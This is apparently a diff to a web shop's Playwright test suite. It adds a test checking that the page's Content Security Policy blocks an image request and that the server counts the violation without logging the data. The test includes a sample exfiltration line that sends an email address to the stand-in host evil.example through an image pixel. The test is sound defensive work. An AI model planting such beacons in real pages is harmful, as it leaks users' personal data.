@@ -36,6 +36,21 @@ test('a later script makes no Trusted Types policy of any name that the page’s
   expect(results).toEqual(names.map((name) => [name, 'refused', 'refused']));
 });
 
+test('what a page’s policy refuses is counted by the server, for whose file it was', async ({ page, shop }) => {
+  await page.goto('/faqs');
+  const counted = async () =>
+    /csp_violations_total\{directive="img-src",remote="document"\} (\d+)/.exec(
+      await (await fetch(shop.metrics)).text(),
+    )?.[1];
+  const before = Number((await counted()) ?? 0);
+  await page.evaluate(() => {
+    new Image().src = 'https://evil.example/pixel?email=ann@example.com';
+  });
+  await expect.poll(async () => Number((await counted()) ?? 0)).toBeGreaterThan(before);
+  expect(shop.log).toContain('"blocked":"https://evil.example"');
+  expect(shop.log).not.toContain('ann@example.com');
+});
+
 test('every remote that a shopper meets still loads its parts', async ({ page }) => {
   await page.goto('/');
   await remotesStarted(page);
